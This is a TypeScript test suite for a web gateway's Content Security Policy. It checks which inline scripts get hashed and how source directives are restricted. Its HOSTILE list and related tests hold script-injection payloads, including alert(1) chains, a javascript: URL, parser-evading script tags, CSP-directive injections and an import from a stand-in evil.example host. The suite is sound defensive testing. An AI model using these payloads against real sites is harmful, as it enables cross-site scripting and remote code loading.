import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, it } from 'node:test';
import { contentSecurityPolicy, inlineScriptSources } from '#gateway/headers/content-security-policy.ts';
import { firstPaintScripts } from '#lib/first-paint.ts';
import { tenants } from '#tenants';
import { openGateway } from './support/gateway.ts';
import { page } from './support/next.ts';

const sourceOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
const tag = (script: string, attributes = '') => `<script${attributes}>${script}</script>`;
const TURBOPACK = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = []))';

const [OURS = ''] = firstPaintScripts();

const HARMLESS = [
  ...firstPaintScripts(),
  '(self.__next_f=self.__next_f||[]).push([0])',
  'self.__next_f.push([1,"0:[\\"$\\",\\"p\\",null,{}]\\n"])',
  'self.__next_f.push([1,"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"])',
  'self.__next_f.push([1,"a\\nb"])',
  `${TURBOPACK}.push(["static/chunks/a.js",{"otherChunks":["static/chunks/b.js"],"runtimeModuleIds":[1]}]);`,
];

const HOSTILE = [
  `${OURS};alert(1)`,
  ` ${OURS}`,
  OURS.replace('default', 'defau1t'),
  '',
  ' ',
  'alert(1)',
  'self.__next_f.push([1,"a"]);alert(1)',
  'self.__next_f.push([1,"a"]),alert(1)',
  'self.__next_f.push([1,"a"]) ',
  'self.__next_f.push(alert(1))',
  'self.__next_f.push([1,"a".concat(alert(1))])',
  'self.__next_f.push([1,`a`])',
  "self.__next_f.push([1,'a'])",
  'self.__next_f.push([1,"a"])//',
  'self.__next_f.push([1,"a"]);',
  'self.__next_f.push([1,"a"])\nalert(1)',
  'self.__next_f.push([1,"a"],alert(1))',
  'self.__next_f.push((alert(1),[1]))',
  'self.__next_f.push([1,{get a(){alert(1)}}])',
  'self.__next_f.push()',
  ' self.__next_f.push([1,"a"])',
  'alert(1);self.__next_f.push([1,"a"])',
  '(self.__next_f=self.__next_f||[]).push([0]);alert(1)',
  '(self.__next_f=self.__next_f||[]).push([1])',
  `${TURBOPACK}.push(["a"]);alert(1)`,
  `${TURBOPACK}.push(["a"]);alert(1);`,
  `${TURBOPACK}.push(["a",()=>alert(1)]);`,
  `${TURBOPACK}.push([1]);alert(1);(0)([2]);`,
  `${TURBOPACK}.push(["a",{"x":"\\u0061"}])`,
  'globalThis.TURBOPACK.push([1])',
  'import("//evil.example/x.js")',
  'location="javascript:alert(1)"',
  '<!--\nalert(1)\n-->',
];

describe('an inline script of a page', () => {
  for (const script of HARMLESS) {
    it(`that is ours or only hands data over may run: ${script.slice(0, 60)}`, () => {
      assert.deepEqual(inlineScriptSources(tag(script)), { sources: [sourceOf(script)], refused: 0 });
    });
  }

  for (const script of HOSTILE) {
    it(`that does anything else may not: ${JSON.stringify(script.slice(0, 60))}`, () => {
      assert.deepEqual(inlineScriptSources(tag(script)), { sources: [], refused: 1 });
    });
  }

  it('gets no source when it is a data block, or a file', () => {
    const html = [
      tag('{"@type":"Restaurant"}', ' type="application/ld+json"'),
      tag('{}', ' id="x" type="application/json"'),
      tag('', ' src="/_next/static/a.js" async=""'),
    ].join('');
    assert.deepEqual(inlineScriptSources(html), { sources: [], refused: 0 });
  });

  it('gets no source however its tag is written', () => {
    for (const html of [
      '<SCRIPT>alert(1)</SCRIPT>',
      '<script\n>alert(1)</script >',
      '<svg><script href=x />',
    ])
      assert.deepEqual(inlineScriptSources(html).sources, [], html);
  });

  it('that closes itself early is not taken together with what follows', () => {
    const { sources, refused } = inlineScriptSources(
      `${tag('self.__next_f.push([1,"a')}${tag('alert(1)')}"])</script>`,
    );
    assert.deepEqual({ sources, refused }, { sources: [], refused: 2 });
  });

  it('is found in a page of hostile text as in any other, in linear time', () => {
    const [harmless = ''] = HARMLESS;
    for (const text of ['<script ', '<script>', '<script src', '</script>', '<script x src=', '<scriptx']) {
      const html = tag(harmless) + text.repeat(200_000);
      assert.deepEqual(inlineScriptSources(html).sources, [sourceOf(harmless)], text);
    }
  });
});

describe('the policy of a page', () => {
  const policyOf = async (body: string) => {
    const gateway = await openGateway(() => page(body));
    const { headers } = await gateway.get('/');
    return { policy: String(headers['content-security-policy']), gateway };
  };
  const directive = (policy: string, name: string) =>
    policy.split('; ').find((one) => one.startsWith(`${name} `));

  it('allows only its own files and known inline scripts', async () => {
    const { policy, gateway } = await policyOf([...HARMLESS, 'alert(1)'].map((each) => tag(each)).join('\n'));
    assert.equal(directive(policy, 'script-src'), `script-src 'self' ${HARMLESS.map(sourceOf).join(' ')}`);
    assert.deepEqual(gateway.refusedScripts, ['le-bosphore ']);
  });

  it('allows nothing that is not named, no frame, no other base, no form to another site', async () => {
    const { policy } = await policyOf('');
    for (const [name, sources] of Object.entries({
      'default-src': "'none'",
      'script-src': "'self'",
      'frame-ancestors': "'none'",
      'base-uri': "'none'",
      'form-action': "'self'",
      'img-src': "'self'",
      'report-uri': '/api/csp-report',
      'report-to': 'csp',
    }))
      assert.equal(directive(policy, name), `${name} ${sources}`);
    assert.doesNotMatch(policy, /unsafe-eval|script-src[^;]*unsafe|\*|data:|https:(\s|;|$)/);
  });

  it("allows pictures only from the sites named in the page's head", async () => {
    const origins = async (head: string, body = '') => {
      const gateway = await openGateway(() => ({
        ...page(''),
        body: `<!DOCTYPE html><html><head>${head}</head><body>${body}</body></html>`,
      }));
      const { headers } = await gateway.get('/');
      return directive(String(headers['content-security-policy']), 'img-src');
    };
    const meta = (content: string) => `<meta name="picture-origins" content="${content}"/>`;
    assert.equal(
      await origins(meta('https://a.example https://b.example:8443')),
      "img-src 'self' https://a.example https://b.example:8443",
    );
    for (const wrong of [
      'https:',
      '*',
      'data:',
      'http://a.example',
      'https://*.example',
      "'unsafe-inline'",
      'https://a.example; script-src *',
      'https://a.example/x',
    ])
      assert.equal(await origins(meta(wrong)), "img-src 'self'", wrong);
    assert.equal(await origins('', meta('https://a.example')), "img-src 'self'");
    const many = Array.from({ length: 20 }, (_, at) => `https://${at}.example`);
    assert.equal((await origins(meta(many.join(' '))))?.split(' ').length, 2 + 8);
  });

  it('lets a page reach the realtime channel on the hosts of its shop only', () => {
    const [tenant, other] = tenants;
    assert(tenant && other);
    const ofPort = {
      hosts: tenant.hosts,
      scripts: [],
      styles: [],
      pictureOrigins: [],
      realtimeUrl: ':4000',
      production: false,
    } as const;
    const own = contentSecurityPolicy({ ...ofPort, tenant });
    for (const host of tenant.hosts) assert(own.includes(` http://${host}:4000 ws://${host}:4000`));
    const overTls = contentSecurityPolicy({ ...ofPort, tenant, production: true });
    for (const host of tenant.hosts) assert(overTls.includes(` https://${host}:4000 wss://${host}:4000`));
    assert.doesNotMatch(overTls, /\b(http|ws):/);
    for (const host of other.hosts) assert(!own.includes(host));
    const backend = { url: 'https://api.example', realtimeUrl: 'https://live.example' };
    const foreign = contentSecurityPolicy({ ...ofPort, tenant: { ...tenant, backend } });
    assert.equal(
      directive(foreign, 'connect-src'),
      "connect-src 'self' https://live.example wss://live.example",
    );
    const manage = contentSecurityPolicy({ ...ofPort, tenant, hosts: ['gestion.a.localhost'] });
    assert.equal(
      directive(manage, 'connect-src'),
      "connect-src 'self' http://gestion.a.localhost:4000 ws://gestion.a.localhost:4000",
    );
    const nobody = contentSecurityPolicy({ ...ofPort, tenant: null });
    assert.equal(directive(nobody, 'connect-src'), "connect-src 'self'");
  });

  it('is sent with every HTML answer, whatever its status and Cache-Control', async () => {
    for (const status of [200, 404]) {
      const headers = { 'cache-control': 'public, max-age=31536000, immutable' };
      const gateway = await openGateway(() => ({ ...page(tag('alert(1)'), headers), status }));
      for (const path of ['/', '/_next/static/a.html']) {
        const reply = await gateway.get(path);
        assert.match(
          String(reply.headers['content-security-policy']),
          /script-src 'self'(;|$)/,
          `${status} ${path}`,
        );
      }
    }
  });
});
